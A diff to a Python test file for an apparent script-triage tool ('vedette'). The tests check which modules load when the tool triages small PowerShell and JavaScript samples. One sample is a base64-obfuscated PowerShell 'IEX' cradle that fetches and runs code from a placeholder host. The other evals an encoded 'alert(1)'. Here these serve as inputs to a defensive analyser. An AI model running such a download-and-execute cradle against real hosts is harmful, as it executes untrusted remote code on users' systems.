@@ -5,8 +5,13 @@ import subprocess  # noqa: TID251  what is loaded is asked of a process of its o
 import sys
 from pathlib import Path
 
+import pytest
+
 CODED = "SUVYIChpd3IgaHR0cDovL2EuaW52YWxpZCk="
-SCRIPT = f"IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{CODED}')))\n"
+SCRIPTS = {
+    "a.ps1": f"IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{CODED}')))\n",
+    "a.js": f"eval(atob('{'YWxlcnQoMSk7' * 4}'));\n",
+}
 OURS = 205
 """Modules of ours, the worker's included: when it grows, see what is loaded that a script does not need."""
 HEAVY = {
@@ -16,13 +21,22 @@ HEAVY = {
 """What takes a millisecond or more, and does nothing for it."""
 
 
-def loaded(folder: Path, name: str, script: str) -> set[str]:
-    """Have a small script judged in a process of its own; return the modules it and its worker loaded."""
-    (folder / name).write_text(script)
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Holds the scripts, and a cache: what is kept beside its source is made once."""
+    made = tmp_path_factory.mktemp("scripts")
+    for name, script in SCRIPTS.items():
+        (made / name).write_text(script)
+    loaded(made, *SCRIPTS)
+    return made
+
+
+def loaded(folder: Path, *names: str) -> set[str]:
+    """Have small scripts judged in a process of its own; return the modules it and its worker loaded."""
     home = {"VEDETTE_DATA_DIR": str(folder / "d"), "VEDETTE_CACHE_DIR": str(folder / "c")}
     code = "from vedette.doors.cli import run; run()"
     ran = subprocess.run(  # noqa: S603 - this interpreter, on what stands here
-        [sys.executable, "-X", "importtime", "-c", code, "triage", str(folder / name)],
+        [sys.executable, "-X", "importtime", "-c", code, "triage", *(str(folder / name) for name in names)],
         env={"PATH": os.environ["PATH"], "HOME": str(folder), **home},
         capture_output=True,
         text=True,
@@ -34,19 +48,16 @@ def loaded(folder: Path, name: str, script: str) -> set[str]:
     return {line.rpartition("|")[2].strip() for line in lines}
 
 
-def test_a_small_script_loads_no_more_than_it_needs(tmp_path: Path) -> None:
-    loaded(tmp_path, "a.ps1", SCRIPT)  # what is kept beside its source is made once
-    names = loaded(tmp_path, "a.ps1", SCRIPT)
+def test_a_small_script_loads_no_more_than_it_needs(folder: Path) -> None:
+    names = loaded(folder, "a.ps1")
     ours = sorted(one for one in names if one.partition(".")[0] == "vedette")
     assert sorted(names & HEAVY) == []
     assert len(ours) <= OURS, ours
     assert "vedette.triage.layers.powershell" in ours, "the worker's are among them"
 
 
-def test_nor_does_javascript(tmp_path: Path) -> None:
-    script = f"eval(atob('{'YWxlcnQoMSk7' * 4}'));\n"
-    loaded(tmp_path, "a.js", script)  # as above
-    names = loaded(tmp_path, "a.js", script)
+def test_nor_does_javascript(folder: Path) -> None:
+    names = loaded(folder, "a.js")
     assert sorted(names & HEAVY) == []
     assert "vedette.lang.python" not in names
     assert "vedette.triage.layers.javascript.peeling" in names
